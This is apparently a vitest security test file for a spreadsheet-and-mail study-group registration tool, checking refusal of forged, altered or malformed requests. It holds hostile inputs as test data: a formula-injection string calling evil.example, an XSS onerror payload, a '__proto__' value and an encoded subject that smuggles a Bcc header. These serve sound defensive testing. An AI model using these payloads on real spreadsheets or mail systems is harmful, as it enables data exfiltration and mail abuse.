import { describe, expect, it } from 'vitest'
import { maxRequestLength } from '../../shared/protocol/envelope.ts'
import type { ProtocolRequest } from '../../shared/protocol/requests.ts'
import {
  envelopeFor,
  newRequestId,
  openStudyGroup,
  person,
  postEnvelope,
  receiveApplication,
  registration,
  rows,
  send,
  subjects,
} from './study-group.ts'

const refused = { ok: false, error: { tag: 'refused' } }

function unchangedBy(act: (group: ReturnType<typeof openStudyGroup>) => unknown): unknown {
  const group = openStudyGroup()
  const before = JSON.stringify(
    group.world.sheet.titles().map((title) => group.world.sheet.read(title)),
  )
  const answer = act(group)
  const after = JSON.stringify(
    group.world.sheet.titles().map((title) => group.world.sheet.read(title)),
  )
  expect(after).toBe(before)
  return answer
}

describe('a request that is not to be trusted leaves the sheet unchanged', () => {
  const mail = { id: 'x', threadId: 'x' }

  it('refuses a forged signature without saying why', () => {
    const answer = unchangedBy(({ world, device }) => {
      const envelope = envelopeFor(world, device, { body: registration(mail) })
      return postEnvelope(world, {
        ...envelope,
        mac: envelope.mac.replace(/^./, 'A').replace(/.$/, 'B'),
      })
    })
    expect(answer).toEqual(refused)
  })

  it('refuses a body that was altered on the way', () => {
    const answer = unchangedBy(({ world, device }) => {
      const envelope = envelopeFor(world, device, { body: registration(mail) })
      return postEnvelope(world, { ...envelope, body: envelope.body.replace('2-01', '2-02') })
    })
    expect(answer).toEqual(refused)
  })

  it('refuses an unknown device after one look into the cache and one at its property', () => {
    const answer = unchangedBy(({ world }) => {
      const stranger = { device: 'd-stranger', key: new Uint8Array(32) }
      const before = world.counts.total
      const refusal = postEnvelope(
        world,
        envelopeFor(world, stranger, { body: registration(mail) }),
      )
      expect(world.counts.total - before).toBe(2)
      return refusal
    })
    expect(answer).toEqual(refused)
  })

  it('names the right time to a device whose clock is wrong', () => {
    const answer = unchangedBy(({ world, device }) => {
      const time = world.now() - 6 * 60_000
      return postEnvelope(world, envelopeFor(world, device, { body: registration(mail), time }))
    })
    expect(answer).toMatchObject({ ok: false, error: { tag: 'clock' } })
  })

  it('refuses a body that is too large before reading it', () => {
    const answer = unchangedBy(({ world }) =>
      JSON.parse(world.post('x'.repeat(maxRequestLength + 1)).text),
    )
    expect(answer).toEqual({ ok: false, error: { tag: 'too-large', limit: maxRequestLength } })
  })

  it.each(['', '{}', 'null', '[]', '{"v":1}', '<html>', '{"v":1,"device":"__proto__"}'])(
    'refuses %j',
    (text) => {
      expect(unchangedBy(({ world }) => JSON.parse(world.post(text).text))).toEqual(refused)
    },
  )

  it('says which field of a signed request is wrong', () => {
    const answer = unchangedBy(({ world, device }) => {
      const body = { ...registration(mail), participants: [{ ...person, name: 5 }] }
      return postEnvelope(
        world,
        envelopeFor(world, device, { body: body as unknown as ProtocolRequest }),
      )
    })
    expect(answer).toEqual({ ok: false, error: { tag: 'invalid', path: 'participants.0.name' } })
  })

  it('refuses a name that consists of nothing', () => {
    const answer = unchangedBy(({ world, device }) =>
      send(
        world,
        device,
        registration(mail, { participants: [{ ...person, name: '\u202e \u0000' }] }),
      ),
    )
    expect(answer).toMatchObject({ ok: false, error: { tag: 'invalid' } })
  })

  it('refuses a cancellation by somebody who is not registered', () => {
    const answer = unchangedBy(({ world, device }) =>
      send(world, device, registration(mail, { intent: 'cancel' })),
    )
    expect(answer).toEqual({ ok: false, error: { tag: 'not-registered', name: person.name } })
  })

  it('refuses a meeting that nobody holds', () => {
    const answer = unchangedBy(({ world, device }) =>
      send(world, device, registration(mail, { meetingId: '9-99' })),
    )
    expect(answer).toEqual({ ok: false, error: { tag: 'meeting-unknown', meetingId: '9-99' } })
  })
})

it('refuses another body under a request id that was answered before', () => {
  const { world, device } = openStudyGroup()
  const mail = receiveApplication(world)
  const requestId = newRequestId()
  send(world, device, registration(mail), requestId)
  const other = registration(mail, { participants: [{ ...person, name: '別名 太郎' }] })
  expect(send(world, device, other, requestId)).toEqual({
    ok: false,
    error: { tag: 'request-reused' },
  })
  expect(rows(world, '参加')).toHaveLength(1)
})

it.each([
  ['a formula', '=IMPORTXML("https://evil.example/","//a")'],
  ['a plus sign', '+81-90'],
  ['an at sign', '@SUM(A1)'],
  ['HTML', '<img src=x onerror=alert(1)>'],
])('keeps %s in the sender’s name as plain text in the cell', (_what, name) => {
  const { world, device } = openStudyGroup()
  const mail = receiveApplication(world)
  send(world, device, registration(mail, { participants: [{ ...person, name }] }))
  const column = world.sheet.columnOf('名簿', '氏名') - 1
  const cell = world.sheet.grid('名簿')[1]?.[column]
  expect(cell).toMatchObject({ value: name, display: name })
  world.advance(20 * 60_000)
  expect(world.mail.sent()[0]?.text).toContain(`${name} 様`)
  expect(world.mail.sent()[0]?.headers['content-type']).toContain('text/plain')
})

it('sends nothing for a name that looks like a placeholder, and says so in the row', () => {
  const { world, device } = openStudyGroup()
  const mail = receiveApplication(world)
  const answer = send(
    world,
    device,
    registration(mail, { participants: [{ ...person, name: '{{署名}}' }] }),
  )
  expect(answer).toMatchObject({
    ok: true,
    result: { mails: [{ held: expect.stringContaining('この行の値') }] },
  })
  world.advance(20 * 60_000)
  expect(subjects(world)).toEqual([])
  expect(rows(world, '参加')[0]?.送信).toContain('止めている')
})

it('puts no second header into a mail, whatever the subject says', () => {
  const { world, device } = openStudyGroup()
  const subject = '=?UTF-8?B?5Y+C5YqgDQpCY2M6IGV2aWxAZXZpbC5leGFtcGxl?='
  send(world, device, registration(receiveApplication(world, { subject })))
  world.advance(20 * 60_000)
  expect(world.mail.sent()).toHaveLength(1)
  expect(world.mail.sent()[0]?.headers.bcc).toBeUndefined()
})

describe('a sender who cannot be verified', () => {
  it.each(['fail', 'none'] as const)(
    'waits for a person when authentication says %s',
    (authentication) => {
      const { world, device } = openStudyGroup()
      send(world, device, registration(receiveApplication(world, { authentication })))
      world.advance(60 * 60_000)
      expect(subjects(world)).toEqual([])
      expect(rows(world, '参加')[0]?.送信).toContain('要確認')
      world.sheet.editCell({ title: '参加', header: '連絡', row: 2, value: '送る' })
      world.advance(20 * 60_000)
      expect(subjects(world)).toHaveLength(1)
      expect(rows(world, '送信記録')).toMatchObject([{ 状態: '送信済' }])
    },
  )

  it('waits when the message is not in the mailbox', () => {
    const { world, device } = openStudyGroup()
    send(world, device, registration({ id: 'ffffffff', threadId: 'ffffffff' }))
    world.advance(60 * 60_000)
    expect(subjects(world)).toEqual([])
    expect(rows(world, '参加')[0]?.送信).toContain('元のメール')
  })
})

it('touches only the owner’s mailbox, also when a colleague clicks', () => {
  const { world, device } = openStudyGroup()
  world.addUser('colleague@jimukyoku.example')
  send(world, device, registration(receiveApplication(world)))
  const click = world.clickMenu('今すぐ処理する', 'colleague@jimukyoku.example')
  expect(click.ok).toBe(true)
  expect(click.calls.filter((name) => name.startsWith('Gmail.'))).toEqual([])
  expect(world.mail.messages('colleague@jimukyoku.example')).toEqual([])
  world.advance(20 * 60_000)
  expect(subjects(world)).toHaveLength(1)
})

it('lets no other account set the book up again', () => {
  const { world } = openStudyGroup()
  world.addUser('colleague@jimukyoku.example')
  const click = world.clickMenu('はじめに：準備する', 'colleague@jimukyoku.example')
  expect(click.alerts.join()).toContain('event@jimukyoku.example')
})

it('sends nothing from a copy of the spreadsheet', () => {
  const { world, device } = openStudyGroup()
  send(world, device, registration(receiveApplication(world)))
  const copy = world.copySpreadsheet()
  copy.runFunction('periodic')
  copy.advance(20 * 60_000)
  copy.runFunction('periodic')
  expect(copy.mail.sent().length).toBe(world.mail.sent().length)
})
